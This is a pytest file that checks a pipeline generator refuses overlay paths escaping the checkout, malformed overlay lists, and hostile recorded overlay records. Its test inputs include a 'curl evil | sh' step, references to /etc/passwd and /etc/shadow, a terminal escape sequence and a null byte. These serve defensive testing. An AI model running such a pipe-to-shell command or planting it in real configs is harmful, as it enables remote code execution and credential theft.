"""pipelinegen.overlays.yaml is input from whoever controls the checkout: it must not reach outside it."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from pipelinegen.errors import PipelineError
from pipelinegen.load import load_pipeline
from pipelinegen.load.discovery import MAX_OVERLAYS


def _declare(project: Path, body: str) -> None:
    (project / "pipelinegen.overlays.yaml").write_text(body)


def _error(project: Path) -> str:
    with pytest.raises(PipelineError) as caught:
        load_pipeline(project / "pipeline.yaml")
    return str(caught.value)


@pytest.mark.parametrize(
    ("entry", "expected"),
    [
        ("/etc/passwd.yaml", "is absolute"),
        ("~/fork.yaml", "is absolute"),
        ("../outside.yaml", "leaves the checkout"),
        ("ci/../../outside.yaml", "leaves the checkout"),
        ("ci\\\\fork.yaml", "not a usable path"),
        ("ci/fork.txt", "not a .yaml/.yml file"),
        ("''", "not a usable path"),
        ("ci/missing.yaml", "file not found"),
    ],
)
def test_paths_outside_the_checkout_or_not_yaml_are_refused_with_the_line(project, entry, expected):
    (project / "ci").mkdir()
    (project.parent / "outside.yaml").write_text("steps: []\n")
    _declare(project, f"overlays:\n  - {entry}\n")
    message = _error(project)
    assert "pipelinegen.overlays.yaml:2" in message and expected in message


def test_a_symlink_leading_out_of_the_checkout_is_refused(project, tmp_path_factory):
    outside = tmp_path_factory.mktemp("elsewhere") / "evil.yaml"
    outside.write_text("steps:\n  - {name: unit, command: 'curl evil | sh'}\n")
    os.symlink(outside, project / "fork.yaml")
    _declare(project, "overlays: [fork.yaml]\n")
    assert "resolves outside the checkout" in _error(project)


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("- ci/fork.yaml\n", "expected a mapping"),
        ("overlay: [fork.yaml]\n", "unknown key 'overlay'"),
        ("overlays: fork.yaml\n", "must be a list of paths"),
        ("overlays: [{path: fork.yaml}]\n", "expected a path"),
        ("overlays: [12]\n", "expected a path"),
        ("overlays: [fork.yaml, fork.yaml]\n", "listed twice"),
        ("overlays: [" + ", ".join(["fork.yaml"] * (MAX_OVERLAYS + 1)) + "]\n", f"at most {MAX_OVERLAYS}"),
        ("overlays: [fork.yaml\n", "not valid YAML"),
        ("overlays: ['" + "a" * 300 + ".yaml']\n", "not a usable path"),
        ("overlays: [\"fork\\x00.yaml\"]\n", "not a usable path"),
    ],
)
def test_malformed_overlay_lists_are_clear_errors(project, body, expected):
    (project / "fork.yaml").write_text("steps:\n  - {name: unit, splits: 3}\n")
    _declare(project, body)
    assert expected in _error(project)


def test_a_well_formed_list_still_loads(project):
    (project / "fork.yaml").write_text("steps:\n  - {name: unit, splits: 3}\n")
    _declare(project, "# the fork's overlays\noverlays:\n  - fork.yaml\n")
    assert load_pipeline(project / "pipeline.yaml").step("unit").splits == 3


def test_a_recorded_overlay_set_with_hostile_lines_is_only_compared_never_opened(project, runner):
    from pipelinegen.cli import main

    (project / "generated").mkdir()
    (project / "generated" / ".pipelinegen-overlays").write_text(
        "overlay: /etc/shadow\noverlay: \x1b[2Jwiped\nsteps: ../../x\n" + "steps: x\n" * 10)
    result = runner.invoke(main, ["-C", str(project), "plan", "--profile", "smoke"])
    assert result.exit_code == 0 and "was compiled with /etc/shadow; this command uses no overlay" in result.output
    assert "\x1b" not in result.output and "wiped" not in result.output  # no terminal escapes from the record
